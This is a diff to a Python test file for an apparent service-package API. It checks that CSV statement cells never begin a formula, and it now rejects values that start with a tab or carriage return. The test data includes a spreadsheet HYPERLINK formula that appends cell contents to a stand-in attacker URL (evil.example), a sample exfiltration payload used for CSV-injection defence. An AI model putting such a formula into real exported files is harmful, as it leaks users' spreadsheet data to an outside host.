@@ -12,7 +12,10 @@ from hub.clients import add_client
 from tests.unit.test_money_moves_api import BUCKS, QU9, _grant_funding
 from tests.unit.test_packages_api import _person, start
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+# A tab or a line break first is a control character the contract refuses (named, never kept); the CSV
+# writer would put those behind an apostrophe too.
+REFUSED = ["\t=1+1", "\r=1"]
 
 
 async def test_statement_csv_cells_never_start_a_formula(app_hub):
@@ -25,6 +28,10 @@ async def test_statement_csv_cells_never_start_a_formula(app_hub):
         r = await app_hub.http.post("/v1/packages", headers=h, json=start(
             pid, f"csv-{n}", f"CSV{n}", service_type=text, effective_date="2026-01-01"))
         assert r.status_code == 201, r.text
+    for n, text in enumerate(REFUSED):
+        r = await app_hub.http.post("/v1/packages", headers=h, json=start(
+            pid, f"csv-r{n}", f"CSVR{n}", service_type=text, effective_date="2026-01-01"))
+        assert r.status_code == 422 and [e["field"] for e in r.json()["errors"]] == ["service_type"], r.text
     # A unit cost times units a week is a fraction of a penny: shown half up, as every amount is.
     r = await app_hub.http.post("/v1/packages", headers=h, json=start(
         pid, "csv-unit", "UNIT", effective_date="2026-01-01", weekly_cost_pence=None, unit_cost_pence=1,
